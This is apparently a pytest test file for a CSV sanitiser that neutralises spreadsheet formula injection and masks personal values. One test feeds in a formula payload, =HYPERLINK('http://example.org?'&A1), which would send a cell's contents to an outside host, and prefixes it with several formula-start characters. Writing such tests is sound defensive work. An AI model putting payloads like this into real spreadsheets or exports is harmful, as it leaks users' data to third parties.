"""Cells of CSV files that we write run nowhere and break no line."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine.mapping.rejects_file import masked, safe_cell

STARTS = "=+-@|%\uff1d\uff0b\uff0d\uff20\u2212"


@pytest.mark.parametrize("start", [*STARTS, *(f"{mark}=" for mark in " \t\r\n\"'\u201c\u00a0\x00")])
def test_formulas_are_shown_and_not_run(start: str) -> None:
    cell = safe_cell(f'{start}HYPERLINK("http://example.org?"&A1)')
    assert cell.startswith("'")
    assert not set(cell) & set("\t\r\n\x00")


@pytest.mark.parametrize("number", ["-12.5", "+3", "1,464.58", "-1e-5", "12%", "", "Mens E-Mail", "d-1"])
def test_numbers_and_words_stay_as_they_are(number: str) -> None:
    assert safe_cell(number) == number


@given(st.text(max_size=20))
def test_a_cell_is_one_field_of_one_line(text: str) -> None:
    cell = safe_cell(text)
    file = io.StringIO()
    csv.writer(file).writerow([cell, "next"])
    assert len(file.getvalue().splitlines()) == 1
    assert next(csv.reader([file.getvalue()])) == [cell, "next"]
    assert cell.strip("\"' ")[:1] not in STARTS or cell.startswith("'") or cell.strip("+-.,0123456789eE%") == ""


def test_a_mask_says_the_length_alone() -> None:
    assert masked("ann@example.org") == "(masked, 15 characters)"
    assert masked("") == ""
